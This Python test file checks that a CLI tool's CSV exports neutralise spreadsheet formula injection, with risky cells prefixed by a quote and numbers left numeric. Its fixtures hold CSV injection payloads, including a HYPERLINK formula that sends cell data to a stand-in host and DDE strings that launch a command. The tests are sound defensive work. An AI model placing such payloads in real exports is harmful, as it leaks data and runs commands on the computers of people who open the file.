"""No CSV the CLI prints runs as a formula in a spreadsheet; numbers stay numbers."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

from retainly.cli import output
from tests.cli.running import captured

# Ids and values as a hostile export could hold them (OWASP's CSV injection examples).
FORMULA_ID = "=HYPERLINK(\"http://x.example/?\"&A1,\"see\")"
AT_ID = "@SUM(1+1)*cmd|' /C calc'!A0"


def parsed(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def test_text_that_would_run_is_neutralised_and_numbers_stay_numbers(capsys):
    output.print_csv([{"name": "=1+1", "city": "+33 1 23", "note": "-2+3", "tag": "@x", "tab": "\t=1", "cr": "\r=1",
                       "plain": "Müller", "neg_int": -2, "neg_money": Decimal("-3.50"), "neg_float": -0.25,
                       "neg_text": "-7", "empty": ""}])
    header, row = parsed(capsys.readouterr().out)
    assert dict(zip(header, row)) == {
        "name": "'=1+1", "city": "'+33 1 23", "note": "'-2+3", "tag": "'@x", "tab": "'\t=1", "cr": "'\r=1",
        "plain": "Müller", "neg_int": "-2", "neg_money": "-3.5", "neg_float": "-0.25", "neg_text": "-7", "empty": ""}


def test_a_header_from_data_is_neutralised_too(capsys):
    # Column names can come from data (a channel named like a formula in `kpis --csv`).
    output.print_csv([{"cac_=cmd": 1}, {"=2+2": 2}])
    header, *_ = parsed(capsys.readouterr().out)
    assert header == ["cac_=cmd", "'=2+2"]


def test_customer_ids_like_formulas_in_every_per_customer_csv(tmp_path):
    db = str(tmp_path / "shop.duckdb")
    orders = tmp_path / "orders.csv"
    with open(orders, "w", encoding="utf-8", newline="") as out:
        csv.writer(out).writerows([
            ["order_id", "customer_id", "placed_at", "sku", "description", "quantity", "unit_price"],
            ["O1", FORMULA_ID, "2024-01-05 12:00:00", "A", "=cmd|' /C calc'!A0", "1", "10.00"],
            ["O2", AT_ID, "2024-01-06 12:00:00", "B", "Tea", "2", "4.50"],
            ["O3", FORMULA_ID, "2024-02-05 12:00:00", "B", "Tea", "1", "4.50"]])
    code, _, err = captured(["--db", db, "import", "orders", str(orders)])
    assert code == 0, err
    for command in (["rfm", "--csv"], ["lifecycle", "--csv"]):
        code, out, err = captured(["--db", db, *command])
        assert code == 0, err
        header, *rows = parsed(out)
        assert header[0] == "customer"
        assert sorted(row[0] for row in rows) == sorted(["'" + FORMULA_ID, "'" + AT_ID])
    code, out, err = captured(["--db", db, "customer", "show", FORMULA_ID, "--csv"])
    assert code == 0, err
    rows = list(csv.DictReader(io.StringIO(out, newline="")))
    assert [(r["customer"], r["description"], r["quantity"], r["amount"]) for r in rows] == [
        ("'" + FORMULA_ID, "'=cmd|' /C calc'!A0", "1", "10"), ("'" + FORMULA_ID, "Tea", "1", "4.5")]
